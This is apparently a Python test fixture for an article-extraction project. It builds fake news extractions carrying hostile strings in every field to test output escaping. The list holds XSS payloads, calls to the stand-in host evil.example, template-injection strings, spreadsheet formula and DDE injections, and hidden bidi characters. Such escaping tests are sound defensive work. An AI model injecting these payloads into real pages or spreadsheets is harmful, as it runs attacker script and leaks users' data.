"""Payloads: texts that are built to be run, drawn, followed or taken for a formula where they are shown.

Each sets ``window.pwned``, opens a dialog or asks the host ``evil.example`` where it is not shown as text.
"""

from dataclasses import replace
from datetime import date

from geo.mentions.gazetteer import load_gazetteer
from geo.records import (
    AccordPlace,
    Article,
    Citation,
    CountryCode,
    DateBasis,
    Event,
    Extraction,
    Mention,
    MentionKind,
    Modality,
    Place,
    Quote,
    Relation,
    Sentence,
    SentenceKind,
    State,
)

RUN = "window.top.pwned=1"
PAYLOADS = (
    # Elements.
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title></textarea><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<img src=x onerror={RUN}>",
    "<img src=https://evil.example/pwned.png>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><style><img src onerror={RUN}></style></mtext></math>",
    f"<details open ontoggle={RUN}>pwned</details>",
    f"<body onload={RUN}>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<iframe src=https://evil.example/pwned></iframe>",
    "<object data=https://evil.example/pwned></object>",
    "<link rel=stylesheet href=https://evil.example/pwned.css>",
    "<style>@import url(https://evil.example/pwned.css)</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/pwned'>",
    "<base href=https://evil.example/pwned/>",
    "<form action=https://evil.example/pwned><button autofocus>pwned</form>",
    f"<a href='javascript:{RUN}'>pwned</a>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # Attributes.
    f'" autofocus onfocus="{RUN}" pwned="',
    f"' onmouseover='{RUN}' style='position:fixed;inset:0",
    "' style='background:url(https://evil.example/pwned)' x='",
    # Addresses.
    f"javascript:{RUN}",
    f"JaVaScRiPt&#58;{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'https://evil.example/pwned"><script>{RUN}</script>',
    # Templates and scripts.
    f"${{{RUN}}} `${{{RUN}}}`",
    f"`-({RUN})-`",
    "{{ cycler.__init__.__globals__ }} {% include 'pwned' %} {pwned} {0.__class__} %(pwned)s",
    f"\u2028{RUN}\u2029//",
    # Markdown, and what Streamlit adds to it.
    "![pwned](https://evil.example/pwned.png) [pwned](javascript:window.top.pwned=1)",
    ":red[pwned] :material/bolt: $\\href{https://evil.example/pwned}{x}$ **pwned** ~~pwned~~",
    f"\n\n# pwned\n\n> <img src=x onerror={RUN}>\n\n```html\n<script>{RUN}</script>\n```",
    # Formulas.
    '=HYPERLINK("https://evil.example/pwned","pwned")',
    "@SUM(1+1)*cmd|'/C pwned'!A0",
    # Characters that are not seen.
    "pwned \u202egnp.exe\u2066 a\u0000b \ufeff\u200bpwned",
)
DAY = date(2024, 5, 17)
NORWAY = CountryCode("NOR")


def make_hostile() -> tuple[Extraction, ...]:
    """Return an article for each payload, which stands in every field; each tells of Norway and another."""
    others = [code for code, item in load_gazetteer().countries.items() if item.kind == "state"]
    others = sorted(code for code in others if code != NORWAY)
    told = zip(PAYLOADS, others[:: len(others) // len(PAYLOADS)], strict=False)
    return tuple(_make_hostile(payload, other) for payload, other in told)


def _make_hostile(payload: str, other: CountryCode) -> Extraction:
    text = f"Norway praised {other} {payload} said a man in Oslo.\n\nMalta joined {payload}."
    end = text.rindex("\n\nMalta")
    quote = Quote(exact=text[:end], start_char=0, end_char=end)
    identity = f"hostile {payload}"[:256]
    relation = Relation(
        id=f"{other} {payload}",
        article_id=identity,
        actor=NORWAY,
        recipient=other,
        directed=True,
        event=Event.SUPPORT,
        state=State.PARTNERS,
        modality=Modality.ASSERTED,
        condition=payload,
        accord=payload,
        attributed_to=payload,
        confidence=0.9,
        cue=payload,
        rule=payload,
        quote=quote,
        cue_spans=((7, 14),),
        actor_span=(0, 6),
        recipient_span=(15, 15 + len(other)),
    )
    place = AccordPlace(
        article_id=identity,
        accord=payload,
        country=other,
        place=Place.MEMBER,
        modality=Modality.ASSERTED,
        condition=payload,
        confidence=0.9,
        cue=payload,
        rule=payload,
        quote=quote,
    )
    return Extraction(
        article=Article(
            id=identity,
            text=text,
            title=payload,
            url=payload,
            publisher=payload,
            date_published=DAY,
            date_basis=DateBasis.INFERRED,
            date_note=payload,
            license=payload,
            credit=payload,
            topics=(payload,),
            cited=(Citation(name=payload, url=payload),),
        ),
        sentences=(
            Sentence(start_char=0, end_char=end, kind=SentenceKind.BODY),
            Sentence(start_char=end + 2, end_char=len(text), kind=SentenceKind.BOILERPLATE),
        ),
        mentions=tuple(
            Mention(
                country=code,
                text=words,
                kind=MentionKind.NAME,
                start_char=text.index(words),
                end_char=text.index(words) + len(words),
            )
            for code, words in ((NORWAY, "Norway"), (other, other))
        ),
        relations=(relation,),
        accords=(place,),
    )


def make_refused(extraction: Extraction, number: int) -> Extraction:
    """Return an article that was skipped, with the payload as the reason."""
    title = extraction.article.title or ""
    article = replace(extraction.article, id=f"refused {number}", text=title)
    return Extraction(article=article, skipped=title)
